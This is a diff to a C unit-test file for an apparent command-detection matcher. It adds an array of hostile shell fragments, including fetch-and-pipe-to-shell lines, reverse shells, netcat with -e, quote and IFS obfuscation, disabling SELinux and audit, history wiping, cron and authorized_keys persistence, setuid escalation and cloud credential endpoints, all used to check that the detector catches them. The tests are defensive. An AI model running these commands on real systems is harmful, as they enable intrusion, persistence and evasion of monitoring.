@@ -7,7 +7,8 @@
 
 #include <cmocka.h>
 
-#include "agent/detect/command_features.h"
+#include "agent/detect/command_matcher.h"
+#include "tests/plain_features.h"
 
 static struct command_matcher *matcher;
 
@@ -262,6 +263,31 @@ static const char *const ordinary[] = {
     "",
 };
 
+/* What the patterns also take: other words, other blanks, other case, the words at either end. */
+static const char *const spellings[] = {
+    "fetch http://a.b/x | ash", "lwp-download http://a.b/x |sh", "aria2c http://a.b/x | sh", ". <(fetch http://a)", "base32\t-d|\tsh", "openssl enc -d|sh",
+    "openssl base64 x -d |perl", "gzip -d|sh", "xz\t-d | bash", "zcat x|sh", "python -c exec(bytes.fromhex('41'))", "perl -e eval decode_base64 frombase64",
+    "ruby -e eval(x.decode64)", "php -r eval(str_rot13(x))", "python x exec(marshal", "python x exec(zlib", "fetch -o /dev/shm/x a", "curl -o /run/shm/x a",
+    "chmod 755 /run/shm/x", "sh -c a;\nsetsid /run/shm/x", "a /dev/shm/.x", "wget x;./x", "sh -i >& /dev/udp/1.2.3.4/5 0>&1", "x /dev/udp/1.2.3.4", "nc\t-e sh",
+    "ncat --sh-exec bash", "netcat -c sh", "nc.traditional 1 2 -e /bin/sh", "nc.openbsd 1 -c sh", "SOCAT x EXEC:sh", "mknod p p; telnet a", "telnet a | sh | telnet b",
+    "ruby -rsocket TCPSocket exec(", "PERL python SOCKET connect dup2", "python pty.spawn", "import net child_process", "fsockopen (exec", "a$IFS$9b", "a.${IFS}b",
+    "{nc,-e}", "{sh,a}", "{base64,-d}", "c''at x", "c\"\"at x", "c\\at x", "\\x41\\x41\\x41\\x41\\x41\\x41", "\\101\\101\\101\\101\\101\\101",
+    "printf \\x41 | sh", "/b?n/c?t a", "tftp://8.8.8.8", "ftp://a:b@8.8.8.8", "nc -v 8.8.8.8", "ncat 8.8.8.8", "fetch http://a.b/c", "ANONFILE. anonfiles.com",
+    "abcdefghijklmnop.ONION", "oast.me", "NGROK.io", "cdn.discordapp.com", "api.telegram.org/bot1", "disown x &", "x > /dev/null 2>&1 &", "rm -f \"$0", "& rm -f /tmp/.x",
+    "&& rm /dev/shm/.x", "curl -k x", "curl a --insecure", "wget a --no-check-certificate", "ufw disable", "nft flush ruleset", "ip6tables -F", "iptables -P INPUT ACCEPT",
+    "setenforce 0", "SELINUX=disabled", "aa-teardown", "aa-disable x", "aa-complain x", "apparmor_parser -R x", "service auditd stop", "/etc/init.d/auditd stop",
+    "killall falco", "auditctl -D", "unset HISTFILE", "HISTFILE=/dev/null", "HISTSIZE=0", "HISTFILESIZE=0", "history -c", "set +o history", "> ~/.ash_history",
+    "truncate x /var/log/wtmp", "crontab -r", "touch -d x /usr/a", "touch --reference a /lib/b", "chattr +i x", "tee -a /etc/ld.so.preload", "LD_PRELOAD=./x",
+    "LD_PRELOAD='/dev/shm/x", "kill x xmrig", "pgrep stratum | kill", "x | crontab -", "crontab /run/shm/x", "> /var/spool/cron/x", "*/5\t*\t*\t*\t* x /dev/tcp",
+    "* * * * * fetch x", "* * * * * /run/shm/x", "> /usr/lib/systemd/user/x", "update-rc.d x defaults", "chkconfig x on", "systemctl --now enable x", "> /etc/rc.local",
+    "> /etc/rc.d/x", "> /etc/init.d/x", "> /etc/inittab", "tee /etc/profile.d/x", ">> /etc/update-motd.d/x", ">> ~/.bash_login", ">> $HOME/.zprofile",
+    ">> ${HOME}/.profile", ">> /root/.zshrc", ">> .ssh/authorized_keys", "adduser x", "usermod -o -u 0 x", "usermod --uid=0", "> /etc/shadow", "| passwd --stdin",
+    "usermod -p x", "| chpasswd", "gpasswd -a x sudo", "addgroup x wheel", "> /etc/sudoers.d/x", "chmod 4755 bash", "chmod u+s x", "setcap cap_setuid+ep x",
+    "nsenter -t 1 sh", "chroot /hostfs", "ctr x run --privileged --pid=host", "nerdctl run -v /:/", "podman run --mount=type=bind,src=/,x", "sudo nmap --interactive",
+    "find -exec sh -p", "/run/shm/x -p", ">/x/release_agent", "> /proc/sys/kernel/core_pattern", "sysctl kernel.core_pattern=|x", "unshare -r", "unshare --map-root-user",
+    "logname", "last", "w", "id", "ss", "ip r", "lsof -i", "getent group", "/usr/x 169.254.169.254", "169.254.170.2/v2/credentials", "free", "docker ps", "ls a /docker.sock",
+};
+
 static void attacks_reach_their_score(void **state)
 {
     (void)state;
@@ -336,6 +362,28 @@ static void commands_that_look_around_are_told_apart(void **state)
     assert_discovery("id\nwhoami", NULL); /* one command, odd argument */
 }
 
+static void assert_finds_all(struct plain_features *plain, const char *line)
+{
+    int i = plain_features_differ(plain, matcher, line, strlen(line));
+    if (i >= 0)
+        fail_msg("%s: %s", command_features[i].name, line);
+}
+
+/* Its words are looked for before a pattern is asked: a line for each pattern, and for each of its words, that has it. */
+static void words_hide_no_feature(void **state)
+{
+    (void)state;
+    struct plain_features plain;
+    plain_features_init(&plain);
+    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
+        assert_finds_all(&plain, attacks[i].line);
+    for (size_t i = 0; i < sizeof ordinary / sizeof ordinary[0]; i++)
+        assert_finds_all(&plain, ordinary[i]);
+    for (size_t i = 0; i < sizeof spellings / sizeof spellings[0]; i++)
+        assert_finds_all(&plain, spellings[i]);
+    plain_features_fini(&plain);
+}
+
 /* A line against the patterns: it must not cost more than the bound, whatever is in it. */
 static void hostile_lines_are_bounded(void **state)
 {
@@ -360,6 +408,7 @@ int main(void)
         cmocka_unit_test(ordinary_lines_stay_below),
         cmocka_unit_test(classes_can_be_left_out),
         cmocka_unit_test(commands_that_look_around_are_told_apart),
+        cmocka_unit_test(words_hide_no_feature),
         cmocka_unit_test(hostile_lines_are_bounded),
     };
     return cmocka_run_group_tests_name("command_features", tests, start, stop);
